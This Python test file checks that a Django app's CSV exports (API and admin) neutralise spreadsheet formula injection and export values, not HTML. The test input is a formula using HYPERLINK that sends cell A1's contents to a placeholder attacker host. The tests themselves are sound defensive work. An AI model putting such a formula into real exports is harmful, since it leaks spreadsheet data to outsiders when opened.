"""Every CSV Plenary writes opens safely in a spreadsheet: no cell is taken for a formula, and
the admin's export holds values, not the list's HTML."""

import csv
import io

import pytest

from core.spreadsheets import spreadsheet_safe
from tests import factories

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_evaluate_is_kept_as_text(start):
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("cell", ["Mission of Botswana", "A/RES/69/188", 42, -3, None, ""])
def test_other_cells_are_written_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv"), response.content
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_apis_csv_neutralises_a_formula_typed_into_a_record(client, staff_user, organization):
    factories.MeetingFactory(owner=organization, place=FORMULA)
    client.force_login(staff_user)
    rows = _rows(client.get("/api/v1/meetings/", {"format": "csv"}))
    place = rows[0].index("place")
    assert rows[1][place] == "'" + FORMULA


def test_the_admins_export_neutralises_formulas_and_writes_values_not_html(client, staff_user, organization):
    meeting = factories.MeetingFactory(owner=organization, place=FORMULA, is_illustrative=True)
    client.force_login(staff_user)
    response = client.post(
        "/admin/advocacy/meeting/", {"action": "export_as_csv", "_selected_action": [meeting.pk]}
    )
    header, row = _rows(response)
    assert row[header.index("Place")] == "'" + FORMULA
    assert row[header.index("Is illustrative")] == "yes"  # the list's icon was exported as <img …>
    assert "<" not in response.content.decode().replace(FORMULA, "")
